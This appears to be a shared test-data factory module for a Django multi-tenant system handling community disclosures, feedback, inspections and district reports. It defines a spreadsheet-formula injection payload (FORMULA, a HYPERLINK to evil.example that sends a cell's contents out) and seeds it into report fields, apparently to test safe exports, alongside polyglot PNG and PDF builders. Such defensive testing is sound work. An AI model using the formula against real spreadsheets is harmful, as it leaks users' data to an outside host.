"""Builders of test data, shared by every test module (no test module imports another one).

Rows whose making is itself a rule (a disclosure's audit record and ledger entries, a feedback's
tracking code and clock, an obligation's number) are made through the real services: their factories
override ``_create`` to call the service, and the later steps of a disclosure are plain functions that
take one step each through the services as the right community's staff. Rows that a service would only
reach after a long path (a closed survey, an approved assessment) are written directly.

Who acts is a ``Staff``: the session's ``world`` fixture, or ``BY_LOGIN`` in tests that run without it
(committed data for a real browser or worker). Users are named ``<community code>_<role>``.
"""

from __future__ import annotations

import contextlib
import os
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any, Protocol
from zoneinfo import ZoneInfo

import factory
from django.db import connection, transaction
from django.utils import timezone
from django_tenants.utils import tenant_context

from disclosure import services as disclosure_services
from disclosure.choices import Category, ContentType
from disclosure.feedback import services as feedback_services
from disclosure.feedback.choices import Kind
from disclosure.feedback.models import Feedback
from disclosure.models import Disclosure, Obligation
from inspection import services as inspection_services
from inspection.choices import AssessmentStatus, RectificationSource, SpotCheckStatus, SurveyStatus
from inspection.models import (
    Admonishment,
    Assessment,
    AssessmentScore,
    ComplianceSummary,
    Evaluation,
    Rectification,
    SpotCheck,
    SpotCheckDraw,
    Survey,
)
from standards.models import LedgerAnchor
from tenants import services as tenant_services
from tenants.choices import CommunityRole
from tenants.models import Community, StreetOffice, SubmissionToken, User

PASSWORD = "pw-Test-123"
TZ = ZoneInfo("Asia/Shanghai")
SIGNERS = ("secretary", "director", "handler")


def at(day: date, hour: int = 10) -> datetime:
    """``day`` at ``hour`` o'clock in the communities' time zone."""
    return datetime(day.year, day.month, day.day, hour, tzinfo=TZ)


def here() -> Community:
    """The community whose schema the test switched to (``tenant_context`` or ``schema_context``), for the
    services that take it explicitly, as a view passes ``request.community``."""
    tenant = getattr(connection, "tenant", None)  # a Community under tenant_context
    if isinstance(tenant, Community):
        return tenant
    return Community.objects.get(schema_name=connection.schema_name)  # type: ignore[attr-defined]  # django-tenants' connection


# --- files ---------------------------------------------------------------------------------------------


def _png() -> bytes:
    """A real 1×1 PNG as Pillow writes it (uploads are decoded and drawn again, so it must decode, and
    drawing it again gives the same bytes)."""
    from io import BytesIO

    from PIL import Image

    out = BytesIO()
    Image.new("RGBA", (1, 1), (255, 255, 255, 255)).save(out, "PNG")
    return out.getvalue()


PNG = _png()


def pdf_file(objects: dict[int, bytes], *, version: bytes = b"1.4") -> bytes:
    """A PDF written byte by byte whose cross-reference table points at each object (so a real PDF
    library opens it); object 1 is the catalogue."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


PDF_PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def pdf_with(catalogue: bytes = b"", more: dict[int, bytes] | None = None) -> bytes:
    """A one-page PDF whose catalogue also holds ``catalogue`` (an /OpenAction …), plus ``more`` objects."""
    return pdf_file({1: b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>", **PDF_PAGES, **(more or {})})


def pdf_padded(size: int) -> bytes:
    """A valid PDF of about ``size`` bytes (a stream of filler), for the size limits and a full disk."""
    filler = b"%" * size
    return pdf_with(more={4: b"<< /Length %d >>\nstream\n" % len(filler) + filler + b"\nendstream"})


def png_unique() -> bytes:
    """A PNG no other test makes (random pixels): images are stored drawn again, so extra bytes after
    the image would not make its stored file unique."""
    from io import BytesIO

    from PIL import Image

    out = BytesIO()
    Image.frombytes("RGB", (4, 4), os.urandom(48)).save(out, "PNG")
    return out.getvalue()


def png_with_text(text: str) -> bytes:
    """A valid PNG carrying ``text`` in a tEXt chunk (where a polyglot hides its markup)."""
    from io import BytesIO

    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", text)
    out = BytesIO()
    Image.new("RGB", (2, 2)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


PDF = pdf_with()


# --- users, memberships, communities -------------------------------------------------------------------


class UserFactory(factory.django.DjangoModelFactory[User]):
    class Meta:
        model = User
        django_get_or_create = ("username",)
        skip_postgeneration_save = True

    username = factory.Sequence(lambda n: f"user{n}")
    real_name = factory.Faker("name", locale="zh_CN")
    email = factory.LazyAttribute(lambda u: f"{u.username}@example.invalid")

    # factory_boy calls this with the user it built, not with the factory.
    @factory.post_generation
    def password(user: User, create: bool, extracted: str | None, **kwargs: object) -> None:
        user.set_password(extracted or PASSWORD)
        if create:
            user.save(update_fields=["password"])


class Staff(Protocol):
    """Finds a user by login: the ``world`` fixture does, and so does ``BY_LOGIN``."""

    def user(self, login: str) -> User: ...


class _ByLogin:
    def user(self, login: str) -> User:
        return User.objects.get(username=login)


BY_LOGIN: Staff = _ByLogin()


def community_staff_create(community: Community, *, with_mobiles: bool = False) -> dict[str, User]:
    """One user per community role, ``<code>_<role>``, each a member of ``community`` in that role."""
    users: dict[str, User] = {}
    for number, role in enumerate(CommunityRole):
        mobile = f"1380000{number:04d}" if with_mobiles else ""
        users[role.value] = UserFactory.create(
            username=f"{community.schema_name}_{role.value}", mobile=mobile
        )
        tenant_services.membership_grant(user=users[role.value], community=community, role=role)
    return users


@contextlib.contextmanager
def throwaway_community(
    code: str, *, with_mobiles: bool = False
) -> Iterator[tuple[Community, dict[str, Any]]]:
    """A street office and community of a test's own, committed (so other connections and processes
    see them) and dropped afterwards. ``code`` names the community, its street office (``<code>-so``)
    and its users (``<code>_<role>``). Published rows and ledger entries cannot be deleted, so the
    community's schema goes as a whole; the users' per-object grants lived in it too."""
    from tests.dbroles import as_owner

    office = tenant_services.street_office_create(code=f"{code}-so", name=f"{code} 街道", district="示范县")
    with as_owner():  # creating and dropping a schema is the owner's work
        community = tenant_services.community_create(code=code, name=f"{code} 社区", street_office=office)
    users: dict[str, Any] = {}
    try:
        users.update(community_staff_create(community, with_mobiles=with_mobiles))
        yield community, users
    finally:
        connection.set_schema_to_public()  # type: ignore[attr-defined]
        with as_owner(), connection.cursor() as cursor:
            cursor.execute(f'DROP SCHEMA IF EXISTS "{code}" CASCADE')
        with transaction.atomic():
            # a worker still writing the community's summaries (the debounced refresh) holds a key lock on
            # its row: wait for it, so the delete takes what it wrote; a later write finds the row gone
            list(Community.objects.select_for_update().filter(pk=community.pk).values_list("pk", flat=True))
            Community.objects.filter(pk=community.pk).delete()
        StreetOffice.objects.filter(pk=office.pk).delete()
        SubmissionToken.objects.filter(user__username__startswith=f"{code}_").delete()
        # guardian's per-object tables were in the dropped schema: skip the ORM's cascade into them
        User.objects.filter(username__startswith=f"{code}_")._raw_delete(using="default")


@contextlib.contextmanager
def guards_off(*tables: str) -> Iterator[None]:
    """What the tables' owner can do and the tests play at: switch off a table's own triggers (the
    append-only guards), do something in raw SQL, switch them back on — all inside the caller's
    transaction. The deferred foreign-key checks are flushed first (ALTER TABLE refuses to run with
    trigger events pending)."""
    with connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        for table in tables:
            cursor.execute(f"ALTER TABLE {table} DISABLE TRIGGER USER")
        yield
        for table in tables:
            cursor.execute(f"ALTER TABLE {table} ENABLE TRIGGER USER")


# --- disclosures, one function per step of the five ------------------------------------------------------
# Each runs in the current schema (a test's ``in_yincheng`` or its own ``tenant_context``).

HOUSEHOLD: dict[str, Any] = {
    "name": "王建国",
    "id_number": "620102195001011235",
    "age": 76,
    "household_size": 2,
    "hardship": "老人独居,无固定收入",
    "amount": "680",
}


class DisclosureFactory(factory.django.DjangoModelFactory[Disclosure]):
    """A draft, written through ``disclosure_create`` (by 银城's handler unless ``actor`` says)."""

    class Meta:
        model = Disclosure

    actor = factory.LazyFunction(lambda: BY_LOGIN.user("yincheng_handler"))
    title = "2026年5月社区事务公开"
    category = Category.AFFAIRS
    body = "<p>本月办理低保复审 3 户。</p>"

    @classmethod
    def _create(cls, model_class: type[Disclosure], *args: Any, **kwargs: Any) -> Disclosure:
        return disclosure_services.disclosure_create(community=here(), **kwargs)


def draft(
    world: Staff, *, community: str = "yincheng", drafter: str = "handler", **fields: Any
) -> Disclosure:
    return DisclosureFactory.create(actor=world.user(f"{community}_{drafter}"), **fields)


def submitted(
    world: Staff,
    *,
    today: date = date(2026, 6, 1),
    planned: date = date(2026, 6, 8),
    community: str = "yincheng",
    drafter: str = "handler",
    **fields: Any,
) -> Disclosure:
    """Sent to the supervision group on ``today`` for publication on ``planned``."""
    d = draft(world, community=community, drafter=drafter, **fields)
    return disclosure_services.disclosure_submit(
        community=here(),
        disclosure=d,
        actor=world.user(f"{community}_{drafter}"),
        planned_publish_date=planned,
        today=today,
    )


def approved(world: Staff, *, community: str = "yincheng", **kwargs: Any) -> Disclosure:
    d = submitted(world, community=community, **kwargs)
    return disclosure_services.disclosure_review(
        community=here(), disclosure=d, actor=world.user(f"{community}_supervisor"), decision="approve"
    )


def signed(
    world: Staff, *, community: str = "yincheng", signers: Iterable[str] = SIGNERS, **kwargs: Any
) -> Disclosure:
    d = approved(world, community=community, **kwargs)
    for role in signers:
        disclosure_services.disclosure_sign(
            community=here(), disclosure=d, actor=world.user(f"{community}_{role}"), role=role
        )
    return d


# The channels of an item residents also see on the community's e-screen (电子屏).
ON_SCREEN = ("board", "web", "e_screen")


def published(
    world: Staff,
    *,
    on: date | None = date(2026, 6, 8),
    channels: Iterable[str] = ("board", "web"),
    public_from: date | None = None,
    community: str = "yincheng",
    **kwargs: Any,
) -> Disclosure:
    """Published at 10 o'clock on ``on``; ``on=None`` publishes now, by the service's own clock."""
    d = signed(world, community=community, **kwargs)
    return disclosure_services.disclosure_publish(
        community=here(),
        disclosure=d,
        actor=world.user(f"{community}_handler"),
        channels=list(channels),
        public_from=public_from,
        now=at(on) if on else None,
    )


def published_recently(
    world: Staff, *, on: date | None = None, public_from: date | None = None, **fields: Any
) -> Disclosure:
    """Published on ``on`` (today by default), so its display window is still running today."""
    on = on or timezone.localdate()
    return published(
        world, on=on, today=on - timedelta(days=14), planned=on, public_from=public_from, **fields
    )


def published_once(
    *, title: str, category: str, content_type: str, body: str, data: dict[str, Any] | None
) -> Disclosure:
    """Published today in 银新社区 (the browser tests' community) through the five steps, or the one a
    previous run left there: what is published cannot be deleted, so it is made once per title."""
    existing = Disclosure.objects.filter(title=title, status="published").first()
    if existing:
        return existing
    today = timezone.localdate()
    return published(
        BY_LOGIN,
        community="yinxin",
        on=None,
        channels=ON_SCREEN,
        today=today - timedelta(days=14),
        planned=today,
        title=title,
        category=category,
        content_type=content_type,
        body=body,
        data=data,
    )


def archived(world: Staff, *, community: str = "yincheng", **kwargs: Any) -> Disclosure:
    """Published, then archived on the last day of its display window."""
    d = published(world, community=community, **kwargs)
    assert d.display_until is not None
    return disclosure_services.disclosure_archive(
        community=here(), disclosure=d, actor=world.user(f"{community}_handler"), today=d.display_until
    )


def corrected(
    world: Staff, old: Disclosure, *, reason: str, body: str, on: date = date(2026, 6, 17)
) -> Disclosure:
    """Version 2 of published ``old`` with a new ``body``, through the five steps again, out on ``on``."""
    new = disclosure_services.disclosure_start_correction(
        community=here(), disclosure=old, actor=world.user("yincheng_handler"), reason=reason
    )
    return next_version_published(world, new, body=body, on=on)


def next_version_published(
    world: Staff,
    new: Disclosure,
    *,
    body: str,
    on: date,
    submitted_on: date | None = None,
    short_notice_reason: str = "",
) -> Disclosure:
    """The draft of a next version (a correction, an ordered re-publication) given ``body`` by 银城's
    handler, submitted on ``submitted_on`` (a week before by default), approved, signed and published
    on ``on``."""
    handler = world.user("yincheng_handler")
    new = disclosure_services.disclosure_update(
        disclosure=new,
        actor=handler,
        title=new.title,
        category=new.category,
        content_type=new.content_type,
        audience=new.audience,
        body=body,
        data=new.data,
    )
    new = disclosure_services.disclosure_submit(
        community=here(),
        disclosure=new,
        actor=handler,
        planned_publish_date=on,
        today=submitted_on or on - timedelta(days=7),
        short_notice_reason=short_notice_reason,
    )
    new = disclosure_services.disclosure_review(
        community=here(), disclosure=new, actor=world.user("yincheng_supervisor"), decision="approve"
    )
    for role in SIGNERS:
        disclosure_services.disclosure_sign(
            community=here(), disclosure=new, actor=world.user(f"yincheng_{role}"), role=role
        )
    return disclosure_services.disclosure_publish(
        community=here(), disclosure=new, actor=handler, channels=["board"], now=at(on)
    )


def fixed_published(
    world: Staff,
    *,
    on: date,
    code: str = "FW-03",
    community: str = "yincheng",
    body: str = "<p>火警 119。</p>",
) -> Disclosure:
    """A fixed (长期) item of the catalogue published on ``on`` for its obligation, so its display runs the
    item's display days (a year) from then."""
    disclosure_services.obligations_generate(community=here(), on=on, since=on)
    obligation = Obligation.objects.get(code=code, period="长期")
    return published(
        world,
        on=on,
        today=on - timedelta(days=14),
        planned=on,
        community=community,
        channels=ON_SCREEN,
        obligation=obligation,
        title=obligation.title,
        category=obligation.category,
        content_type=obligation.content_type,
        body=body,
    )


def renewal_opened(
    world: Staff, *, published_on: date, on: date, code: str = "FW-03", community: str = "yincheng"
) -> Obligation:
    """The renewal of a fixed item published on ``published_on``, as the daily job opens it on ``on``."""
    current = fixed_published(world, on=published_on, code=code, community=community)
    disclosure_services.obligations_generate(community=here(), on=on, since=on)
    return Obligation.objects.get(renews=current)


# --- obligations and feedback --------------------------------------------------------------------------


class EventObligationFactory(factory.django.DjangoModelFactory[Obligation]):
    """A per-event obligation, recorded through ``event_record`` (by 银城's handler unless ``actor`` says)."""

    class Meta:
        model = Obligation

    actor = factory.LazyFunction(lambda: BY_LOGIN.user("yincheng_handler"))
    code = "SW-10"
    event_date = date(2026, 6, 1)
    description = "小区停水抢修"

    @classmethod
    def _create(cls, model_class: type[Obligation], *args: Any, **kwargs: Any) -> Obligation:
        return disclosure_services.event_record(community=here(), **kwargs)


class FeedbackFactory(factory.django.DjangoModelFactory[Feedback]):
    """A resident's feedback, submitted through ``feedback_submit`` on ``on`` (its clock starts then)."""

    class Meta:
        model = Feedback

    class Params:
        on = date(2026, 6, 1)

    kind = Kind.QUESTION
    text = "第三季度财务公开里“办公费 3200 元”具体买了什么?"
    today = factory.SelfAttribute("on")

    @classmethod
    def _create(cls, model_class: type[Feedback], *args: Any, **kwargs: Any) -> Feedback:
        return feedback_services.feedback_submit(community=here(), **kwargs)


# --- the street office's reports (what the district API serves) ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
_ROSTER = {
    "programme": "城市最低生活保障",
    "households": [
        {
            "name": "王建国",
            "id_number": "11010119490101123X",
            "age": 76,
            "household_size": 2,
            "hardship": "独居,慢性病",
            "amount": "680",
        },
        {"name": "欧阳小明", "age": 45, "household_size": 4, "hardship": "失业", "amount": "1200"},
    ],
}


class AssessmentFactory(factory.django.DjangoModelFactory[Assessment]):
    """A scored assessment for ``community`` (approved unless ``approved=False``), full marks on every
    item of ``template``, the formula ``FORMULA`` in item C1's note."""

    class Meta:
        model = Assessment
        skip_postgeneration_save = True

    class Params:
        approved = True

    period = "2026年度"
    inspector = factory.LazyFunction(lambda: BY_LOGIN.user("yinzhou_inspector"))
    status = factory.LazyAttribute(
        lambda o: AssessmentStatus.APPROVED if o.approved else AssessmentStatus.SCORED
    )
    self_total = Decimal("98.0")
    inspector_total = Decimal("95.0")
    approved_at = factory.LazyAttribute(lambda o: timezone.now() if o.approved else None)

    @factory.post_generation
    def scores(assessment: Assessment, create: bool, extracted: object, **kwargs: object) -> None:
        for item in assessment.template.items.all():
            AssessmentScore.objects.create(
                assessment=assessment,
                item=item,
                self_score=item.max_score,
                inspector_score=item.max_score,
                note=FORMULA if item.code == "C1" else "",
            )


def spot_check_create(community: Community, *, completed: bool, findings: str = "") -> SpotCheck:
    """A spot check of ``community`` from a draw of its own: completed with findings, or still planned."""
    draw = SpotCheckDraw.objects.create(
        street_office=community.street_office,
        period=f"2026年11月{community.schema_name}{completed}",
        seed="s",
        sample_size=1,
        population=[community.schema_name],
        drawn=[community.schema_name],
        drawn_by=BY_LOGIN.user("yinzhou_inspector"),
    )
    return SpotCheck.objects.create(
        draw=draw,
        community=community,
        status=SpotCheckStatus.COMPLETED if completed else SpotCheckStatus.PLANNED,
        visited_at=datetime(2026, 11, 12, 9, 30, tzinfo=TZ) if completed else None,
        board_current=True if completed else None,
        display_window_kept=False if completed else None,
        opinion_box=True if completed else None,
        findings=findings,
        score=Decimal("66.7") if completed else None,
    )


class SurveyFactory(factory.django.DjangoModelFactory[Survey]):
    """A satisfaction survey of ``community``: closed with its counts (``closed=True``), or open."""

    class Meta:
        model = Survey

    class Params:
        closed = True

    period = "2026年度"
    title = factory.LazyAttribute(lambda o: f"{o.community.name}{o.period}群众满意度测评")
    status = factory.LazyAttribute(lambda o: SurveyStatus.CLOSED if o.closed else SurveyStatus.OPEN)
    created_by = factory.LazyFunction(lambda: BY_LOGIN.user("yinzhou_inspector"))
    votes_cast = factory.LazyAttribute(lambda o: 120 if o.closed else 0)
    satisfied = factory.LazyAttribute(lambda o: 100 if o.closed else 0)
    basic = factory.LazyAttribute(lambda o: 6 if o.closed else 0)
    unsatisfied = factory.LazyAttribute(lambda o: 14 if o.closed else 0)
    satisfaction_rate = factory.LazyAttribute(lambda o: Decimal("88.33") if o.closed else None)
    closed_at = factory.LazyAttribute(lambda o: timezone.now() if o.closed else None)


def rectification_create(community: Community, survey: Survey) -> Rectification:
    """The order a survey below 90 % opens, with one admonishment."""
    order = Rectification.objects.create(
        community=community,
        source=RectificationSource.SURVEY,
        survey=survey,
        issues="-满意率低于 90%",
        responsible_roles=["secretary", "director"],
        due_date=date(2026, 12, 15),
    )
    Admonishment.objects.create(rectification=order, person_name="李书记", role="党组织书记")
    return order


class EvaluationFactory(factory.django.DjangoModelFactory[Evaluation]):
    """A composite evaluation of ``community`` ranked ``rank``, published unless ``published=False``."""

    class Meta:
        model = Evaluation

    class Params:
        published = True

    period = "2026"
    assessment_score = Decimal("95.0")
    spot_check_score = Decimal("66.7")
    satisfaction_score = Decimal("88.33")
    compliance_score = Decimal("80.0")
    rank = 1
    composite = factory.LazyAttribute(lambda o: Decimal("85.5") - o.rank)
    published_at = factory.LazyAttribute(lambda o: timezone.now() if o.published else None)


@dataclass
class Reports:
    """What each resource should and should not show; ids let tests guess across scopes."""

    assessment: Assessment
    assessment_unapproved: Assessment
    spot_check: SpotCheck
    spot_check_open: SpotCheck
    survey: Survey
    survey_open: Survey
    rectification: Rectification
    evaluation: Evaluation
    evaluation_unpublished: Evaluation
    dongfeng_assessment: Assessment
    dongfeng_spot_check: SpotCheck
    dongfeng_survey: Survey
    dongfeng_rectification: Rectification
    dongfeng_evaluation: Evaluation
    roster: Disclosure
    old_roster: Disclosure
    notice: Disclosure
    draft: Disclosure


def reports_build(world: Any) -> Reports:
    """One set of report data across both street offices (银城 and 银南 of 银州, 东风 of 东关)."""
    template = inspection_services.template_seed_default()
    year = str(timezone.localdate().year)
    for community in (world.yincheng, world.dongfeng):
        ComplianceSummary.objects.create(
            community=community,
            period_kind="year",
            period=year,
            start=date(int(year), 1, 1),
            end=date(int(year), 12, 31),
            due=10,
            on_time=8,
            late=1,
            overdue=1,
            on_time_rate=Decimal("80.0"),
            computed_on=timezone.localdate(),
        )
    survey = SurveyFactory.create(community=world.yincheng)
    dongfeng_survey = SurveyFactory.create(community=world.dongfeng)
    with tenant_context(world.yincheng):
        old_roster = published(
            world, content_type=ContentType.RELIEF, data=_ROSTER, title="2026年6月低保名单公示"
        )
        notice = published(world, title=FORMULA)
        today = timezone.localdate()
        roster = published(
            world,
            content_type=ContentType.RELIEF,
            data=_ROSTER,
            title="本月低保名单公示",
            today=today - timedelta(days=20),
            planned=today - timedelta(days=3),
            on=today - timedelta(days=3),
        )
        unpublished = draft(world, title="还在起草的通知")
        disclosure_services.ledger_anchor_record(community=here(), day=today - timedelta(days=1))
        disclosure_services.ledger_anchor_record(community=here(), day=today)
    LedgerAnchor.objects.create(community=world.dongfeng, day=today, head_seq=1, head_hash="d" * 64)
    return Reports(
        assessment=AssessmentFactory.create(community=world.yincheng, template=template),
        assessment_unapproved=AssessmentFactory.create(
            community=world.yinnan, template=template, approved=False
        ),
        spot_check=spot_check_create(world.yincheng, completed=True, findings=FORMULA),
        spot_check_open=spot_check_create(world.yinnan, completed=False),
        survey=survey,
        survey_open=SurveyFactory.create(community=world.yinnan, closed=False),
        rectification=rectification_create(world.yincheng, survey),
        evaluation=EvaluationFactory.create(community=world.yincheng, rank=1),
        evaluation_unpublished=EvaluationFactory.create(community=world.yinnan, rank=2, published=False),
        dongfeng_assessment=AssessmentFactory.create(community=world.dongfeng, template=template),
        dongfeng_spot_check=spot_check_create(world.dongfeng, completed=True),
        dongfeng_survey=dongfeng_survey,
        dongfeng_rectification=rectification_create(world.dongfeng, dongfeng_survey),
        dongfeng_evaluation=EvaluationFactory.create(community=world.dongfeng, rank=1),
        roster=roster,
        old_roster=old_roster,
        notice=notice,
        draft=unpublished,
    )


# --- what the editor posts ---------------------------------------------------------------------------------

FINANCE_GRANT = {
    "date": "2026-07-03",
    "description": "街道拨付办公经费",
    "direction": "income",
    "category": "上级拨款",
    "amount": "600",
    "voucher": "收-01",
}


def finance_post(*lines: dict[str, str], **changes: str) -> dict[str, str]:
    """What the editor posts to save a finance statement (期初 1000, 期末 1600 unless ``changes`` say
    otherwise): its fields and a row of the grid per line, an empty dict being a row left empty."""
    form = {
        "save": "1",
        "title": "2026年第三季度财务收支",
        "category": "finance",
        "content_type": "finance",
        "audience": "public",
        "body": "",
        "fin-period": "2026Q3",
        "fin-opening_balance": "1000",
        "fin-closing_balance": "1600",
        "line-TOTAL_FORMS": str(len(lines)),
        "line-INITIAL_FORMS": "0",
    }
    for number, line in enumerate(lines):
        form |= {f"line-{number}-{name}": value for name, value in line.items()}
    return form | changes


class FormFields(HTMLParser):
    """What a browser would post from the page's form (not the rows inside a <template>)."""

    def __init__(self) -> None:
        super().__init__()
        self.fields: list[tuple[str, str]] = []
        self._template = 0
        self._select: str | None = None
        self._options: list[tuple[str, bool]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "template":
            self._template += 1
        if self._template or ("name" not in a and tag != "option"):
            return
        if tag == "input" and a.get("type") not in ("submit", "button", "file"):
            if a.get("type") != "checkbox" or "checked" in a:
                self.fields.append((a["name"], a.get("value", "on" if a.get("type") == "checkbox" else "")))
        elif tag == "select":
            self._select, self._options = a["name"], []
        elif tag == "option" and self._select is not None:
            self._options.append((a.get("value", ""), "selected" in a))
        elif tag == "textarea":
            self.fields.append((a["name"], ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "template":
            self._template -= 1
        elif tag == "select" and self._select is not None:
            chosen = [v for v, selected in self._options if selected] or [self._options[0][0]]
            self.fields.append((self._select, chosen[0]))
            self._select = None
